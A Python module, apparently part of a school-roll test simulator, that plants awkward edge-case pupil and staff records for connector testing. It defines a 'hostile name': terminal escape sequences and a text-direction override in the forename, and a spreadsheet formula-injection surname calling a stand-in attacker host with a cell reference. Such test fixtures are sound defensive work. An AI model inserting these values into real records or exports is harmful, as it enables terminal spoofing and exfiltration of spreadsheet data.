"""The records that trip readers up, planted where a real office would have made them.

Every function changes a roll in place and draws only from its own ``random.Random``.  Checklist numbers
stand beside what proves them: G9, G10, G12, F6, F9, J2, J5, N6, Z6, Z14-Z16, Z19 and the hostile name.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from random import Random

from connectors.simulator.families import Enrolment
from connectors.simulator.people import PupilRow, Roll, moment, wonde_id
from connectors.simulator.schools import year_text
from connectors.simulator.staffing import Appointments

HOSTILE_FORENAME = "[bold red]Robin[/]\x1b[31m\x1b]0;owned\x07\u202enibor"
HOSTILE_SURNAME = '=HYPERLINK("http://attack.example/?x="&A1,"Smith")'


def plant(roll: Roll, enrol: Enrolment, appoint: Appointments, rng: Random) -> None:
    """Everything that fits this school; schools with a matching directory stay tidy."""
    _leavers(roll, enrol, rng)
    if roll.school.has_future():
        _future(roll, enrol, appoint, rng)
    if roll.school.matching == "full":
        for row in roll.staff.values():
            row.born = row.born or roll.today.replace(year=1980, month=3, day=1 + row.serial % 28)
        return
    picks = iter(rng.sample(roll.of_status("current"), min(40, roll.school.pupils)))
    _contradictions(roll, picks)
    _employees(roll, rng)
    if roll.school.pupils > 500:
        _namesake(next(picks), next(picks))
    _only_once(roll, picks)


def _leavers(roll: Roll, enrol: Enrolment, rng: Random) -> None:
    last = roll.school.stages[1]
    for _ in range(2 + roll.school.pupils // 40):
        for pupil in enrol.family([rng.randint(max(roll.school.stages[0], last - 2), last)], status="leaver"):
            pupil.leaving = roll.today - timedelta(days=rng.randrange(20, 300))
            pupil.updated = moment(pupil.leaving, pupil.serial)


def _future(roll: Roll, enrol: Enrolment, appoint: Appointments, rng: Random) -> None:
    """Pre-admissions and appointments with a date ahead; the first of each arrives tomorrow (J1, J2)."""
    first = roll.school.stages[0]
    for number in range(2 + roll.school.pupils // 60):
        stage = first if number % 3 else rng.randint(first, min(roll.school.stages[1], first + 3))
        for pupil in enrol.family([stage], status="pre"):
            pupil.admitted = roll.today + timedelta(days=1 if number == 0 else rng.randrange(2, 200))
            pupil.created = pupil.updated = moment(roll.today - timedelta(days=9 + number), pupil.serial)
    for number in range(2):
        start = roll.today + timedelta(days=1 if number == 0 else rng.randrange(5, 60))
        appoint.appoint("Classroom Teacher", teaching=True, start=start)


def _contradictions(roll: Roll, picks: Iterator[PupilRow]) -> None:
    for _ in range(1 + min(8, roll.school.pupils // 300)):
        next(picks).born = None  # G12
    left = next(picks)
    left.leaving = roll.today - timedelta(days=40)  # G9: gone by the date, present by the roll
    for _ in range(2):
        next(picks).part_time_rate = 1.0  # G10
    part = next(picks)
    part.part_time, part.part_time_rate = True, 0.6
    later = roll.today + timedelta(days=30)
    next(picks).leaving = later
    repeat = next(picks)
    if repeat.born and repeat.stage > roll.school.stages[0]:  # N6: a year behind the cohort
        repeat.stage -= 1
        repeat.year_text = year_text(repeat.stage, country=roll.school.country)


def _employees(roll: Roll, rng: Random) -> None:
    rows = [row for row in list(roll.staff.values())[3:] if row.start and row.start <= roll.today]
    picks = rng.sample(rows, min(8, len(rows)))
    for gone, days in zip(picks, (30, 200), strict=False):  # F6, J5: ex-employees that were never taken out
        gone.current, gone.end = False, roll.today - timedelta(days=days)
    for odd in picks[2:3]:  # a small school has fewer oddities
        odd.end = roll.today - timedelta(days=12)  # says current, but the end date has passed
    for untitled in picks[3:4]:
        untitled.title = None  # F9
    for twice in picks[4:5]:
        twice.roles = (twice.roles[0], *twice.roles)  # Z14: the same role twice


def _namesake(one: PupilRow, other: PupilRow) -> None:
    """Same name, another birthday; at Eastmarsh the same birthday as well (``_only_once``)."""
    other.forename, other.surname = one.forename or one.legal_forename, one.surname
    other.legal_forename, other.legal_surname, other.gender = other.forename, other.surname, one.gender


def _only_once(roll: Roll, picks: Iterator[PupilRow]) -> None:
    planted = {
        "larkmere": _larkmere, "eastmarsh": _eastmarsh, "stonebeck": _mononym, "harbour-point": _han,
    }.get(roll.school.slug)  # fmt: skip
    if planted:
        planted(roll, picks)


def _larkmere(roll: Roll, picks: Iterator[PupilRow]) -> None:
    hostile = next(picks)
    hostile.forename, hostile.surname = HOSTILE_FORENAME, HOSTILE_SURNAME
    hostile.legal_forename = hostile.legal_surname = None
    heir, holder = next(picks), next(picks)
    heir.former_upn = holder.upn  # Z15
    teachers = [row for row in roll.staff.values() if row.teaching and row.current]
    teachers[5].staff_code = teachers[4].staff_code  # Z19
    _in_both(roll, next(picks))


def _in_both(roll: Roll, pupil: PupilRow) -> None:
    """Z16: on roll already, and still in the pre-admission list under a second id."""
    serial = roll.next_serial("student")
    day = roll.today - timedelta(days=30)
    roll.pupils[wonde_id(roll.school, "student", serial)] = PupilRow(
        serial=serial, id=wonde_id(roll.school, "student", serial), upi=pupil.upi, mis_id=pupil.mis_id,
        forename=pupil.forename, surname=pupil.surname, gender=pupil.gender, born=pupil.born,
        legal_forename=pupil.legal_forename, legal_surname=pupil.legal_surname,
        created=moment(day, serial), updated=moment(day, serial), stage=pupil.stage, family=pupil.family,
        status="pre", admitted=roll.today + timedelta(days=14), year_text=pupil.year_text, upn=pupil.upn,
        admission_number=pupil.admission_number,
    )  # fmt: skip


def _eastmarsh(roll: Roll, picks: Iterator[PupilRow]) -> None:
    one, other = next(picks), next(picks)
    _namesake(one, other)
    other.stage, other.year_text, other.born = one.stage, one.year_text, one.born
    cyrillic = next(picks)
    cyrillic.forename, cyrillic.surname = "Олена", "Шевченко"
    cyrillic.legal_forename, cyrillic.legal_surname = "Олена", "Шевченко"
    _mononym(roll, picks)


def _mononym(_roll: Roll, picks: Iterator[PupilRow]) -> None:
    row = next(picks)
    row.forename = row.legal_forename = "Suharyanto"
    row.surname = row.legal_surname = None  # Z6


def _han(_roll: Roll, picks: Iterator[PupilRow]) -> None:
    row = next(picks)
    row.forename, row.surname = "小明", "王"
    row.legal_forename, row.legal_surname = "小明", "王"
